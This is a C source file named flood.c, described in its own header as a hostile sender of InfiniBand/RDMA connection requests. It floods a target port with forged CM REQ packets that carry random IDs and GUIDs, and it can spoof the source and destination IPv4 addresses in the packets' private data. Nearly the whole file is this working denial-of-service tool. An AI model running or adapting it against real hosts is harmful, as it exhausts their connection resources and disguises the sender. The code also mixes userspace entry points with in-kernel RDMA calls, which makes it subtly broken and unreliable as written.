/* flood.c: a hostile sender of connection requests: REQs with random communication IDs, CA GUIDs
 * and queue pairs for one port, as fast as they leave. It takes no notice of answers.
 *
 * flood COUNT ADDRESS PORT [FROM TO]     "sent N failed N"
 *
 * FROM and TO, of IPv4, are what the header says of the way, whatever it is.
 * In: -    Out: REQs to QP1 of the address    Runs: main; the handler on the MAD layer's queue
 * Locks: none
 */
#include <arpa/inet.h>
#include <endian.h>
#include <errno.h>
#include <semaphore.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <rdma/ib_cache.h>
#include <rdma/ib_mad.h>

enum { OUTSTANDING = 512, PS_TCP = 0x0106, CM_CLASS = 7, CM_VERSION = 2, REQ = 0x10 };

/* Where a REQ has its fields: IBA vol 1, 12.6.5; annex A11 for the private data. */
enum {
	AT_LOCAL_ID = 24,
	AT_SERVICE_ID = 32,
	AT_GUID = 40,
	AT_QPN = 56,
	AT_RESPONSE_TIMEOUT = 67, /* of the responder, transport, flow control */
	AT_LOCAL_TIMEOUT = 71,	  /* and the retry count */
	AT_PKEY = 72,
	AT_MTU = 74,
	AT_RETRIES = 75,
	AT_LOCAL_GID = 80,
	AT_REMOTE_GID = 96,
	AT_HOP_LIMIT = 117,
	AT_ACK_TIMEOUT = 119,
	AT_IP_VERSION = 165,
	AT_IP_SRC = 180,
	AT_IP_DST = 196,
};

static struct ib_device *device;
static struct ib_pd *pd;
static union ib_gid own, target, from, to; /* the latter as the header has them */
static sem_t room;
static u64 seed, failed;

static void fail(const char *what, int err)
{
	fprintf(stderr, "flood: %s: error %d\n", what, err);
	exit(1);
}

static u64 draw(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return seed * 0x2545f4914f6cdd1dull;
}

static void on_device(struct ib_device *d)
{
	if (device == NULL)
		device = d;
}

static struct ib_client client = { .name = "flood", .add = on_device };

static void on_sent(struct ib_mad_agent *agent, struct ib_mad_send_wc *wc)
{
	struct ib_ah *ah = wc->send_buf->ah;

	(void)agent;
	if (wc->status != IB_WC_SUCCESS)
		__atomic_fetch_add(&failed, 1, __ATOMIC_RELAXED);
	ib_free_send_mad(wc->send_buf);
	ib_destroy_ah(ah);
	sem_post(&room);
}

static void on_received(struct ib_mad_agent *agent, struct ib_mad_recv_wc *wc)
{
	(void)agent;
	ib_free_recv_mad(wc);
}

static void put_u64(u8 *at, u64 value)
{
	value = htobe64(value);
	memcpy(at, &value, sizeof(value));
}

/* One that the CM takes: its path leads here, and its private data are the RDMA CM's. */
static void fill_req(u8 *mad, u16 port)
{
	static const u8 header[] = { 1, CM_CLASS, CM_VERSION, IB_MGMT_METHOD_SEND };
	static const u8 pkey[] = { 0xff, 0xff };

	memset(mad, 0, IB_MGMT_MAD_SIZE);
	memcpy(mad, header, sizeof(header));
	put_u64(mad + 8, draw());
	mad[17] = REQ;
	put_u64(mad + AT_LOCAL_ID, draw() & 0xffffffff00000000);
	put_u64(mad + AT_SERVICE_ID, (u64)PS_TCP << 16 | port);
	put_u64(mad + AT_GUID, draw());
	put_u64(mad + AT_QPN, draw() & 0xffffff0000000000);
	mad[AT_RESPONSE_TIMEOUT] = mad[AT_LOCAL_TIMEOUT] = 20 << 3;
	memcpy(mad + AT_PKEY, pkey, sizeof(pkey));
	mad[AT_MTU] = IB_MTU_1024 << 4;
	mad[AT_RETRIES] = 15 << 4;
	memcpy(mad + AT_LOCAL_GID, own.raw, 16);
	memcpy(mad + AT_REMOTE_GID, target.raw, 16);
	mad[AT_HOP_LIMIT] = 64;
	mad[AT_ACK_TIMEOUT] = 19 << 3;
	mad[AT_IP_VERSION] = 4 << 4;
	memcpy(mad + AT_IP_SRC, from.raw + 12, 4);
	memcpy(mad + AT_IP_DST, to.raw + 12, 4);
}

static struct ib_ah *way(void)
{
	struct ib_ah_attr attr = { .ah_flags = IB_AH_GRH,
				   .port_num = 1,
				   .grh = { .dgid = target, .sgid_index = 1, .hop_limit = 64 } };
	struct ib_ah *ah = ib_create_ah(pd, &attr);

	if (IS_ERR(ah))
		fail("ib_create_ah", (int)PTR_ERR(ah));
	return ah;
}

static void send_one(struct ib_mad_agent *agent, u16 port)
{
	struct ib_mad_send_buf *buf = ib_create_send_mad(agent, 1, 0, 0, IB_MGMT_MAD_HDR,
							 IB_MGMT_MAD_DATA, 0);
	int err;

	if (IS_ERR(buf))
		fail("ib_create_send_mad", (int)PTR_ERR(buf));
	buf->ah = way();
	fill_req(buf->mad, port);
	while (sem_wait(&room) != 0)
		;
	err = ib_post_send_mad(buf, NULL);
	if (err != 0)
		fail("ib_post_send_mad", err);
}

static union ib_gid gid_of(const char *address)
{
	union ib_gid gid = { .raw = { [10] = 0xff, [11] = 0xff } };

	if (inet_pton(AF_INET, address, gid.raw + 12) != 1)
		fail(address, EINVAL);
	return gid;
}

static struct ib_mad_agent *begin(const char *address)
{
	struct ib_mad_agent *agent;

	seed = (u64)time(NULL) << 20 | 1;
	sem_init(&room, 0, OUTSTANDING);
	to = target = gid_of(address);
	if (ib_register_client(&client) != 0 || device == NULL)
		fail("no device", 0);
	pd = ib_alloc_pd(device);
	if (IS_ERR(pd) || ib_query_gid(device, 1, 1, &own) != 0)
		fail("no address", 0);
	from = own;
	agent = ib_register_mad_agent(device, 1, IB_QPT_GSI, NULL, 0, on_sent, on_received, NULL);
	if (IS_ERR(agent))
		fail("ib_register_mad_agent", (int)PTR_ERR(agent));
	return agent;
}

int main(int argc, char **argv)
{
	struct ib_mad_agent *agent;
	int count;

	if (argc != 4 && argc != 6) {
		fprintf(stderr, "usage: flood COUNT ADDRESS PORT [FROM TO]\n");
		return 2;
	}
	agent = begin(argv[2]);
	if (argc == 6) {
		from = gid_of(argv[4]);
		to = gid_of(argv[5]);
	}
	count = atoi(argv[1]);
	for (int i = 0; i < count; i++)
		send_one(agent, (u16)atoi(argv[3]));
	for (int i = 0; i < OUTSTANDING; i++)
		while (sem_wait(&room) != 0)
			;
	printf("sent %d failed %llu\n", count, (unsigned long long)failed);
	return 0;
}
